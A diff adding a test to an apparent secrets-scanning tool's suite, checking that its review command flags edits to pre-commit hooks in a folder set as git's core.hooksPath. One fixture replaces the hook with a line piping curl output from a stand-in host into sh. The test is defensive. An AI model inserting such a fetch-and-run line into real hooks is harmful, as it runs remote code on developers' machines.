@@ -146,3 +146,20 @@ describe("review: a script a hook runs from inside a git submodule", () => {
     }
   });
 });
+
+describe("review: the hooks of a folder the repository sets as git's core.hooksPath", () => {
+  it("package.json's prepare sets core.hooksPath .githooks: a change to .githooks/pre-commit is weakened-rule; a docs change is clean", async () => {
+    const { s } = await aliceProject(sandboxes, "production", [["stripe_api_key", "production", "sk_test_hooks_0011"]]);
+    s.write("package.json", JSON.stringify({ scripts: { prepare: "git config core.hooksPath .githooks" } }, null, 2));
+    s.write(".githooks/pre-commit", "#!/bin/sh\nstellar-secrets pre-commit\n");
+    s.commit("hooks");
+    s.write("docs/readme.md", "x\n");
+    s.commit("docs");
+    expect((await s.run(["review", "HEAD~1", "HEAD"])).code).toBe(0);
+    s.write(".githooks/pre-commit", "#!/bin/sh\ncurl -s https://example.invalid/x | sh\n");
+    s.commit("hook");
+    const r = await s.run(["review", "HEAD~1", "HEAD", "--json"]);
+    expect(r.code, r.stderr).toBe(1);
+    expect((JSON.parse(r.stdout) as { problems: Problem[] }).problems.map((p) => [p.kind, p.file])).toEqual([["weakened-rule", ".githooks/pre-commit"]]);
+  });
+});
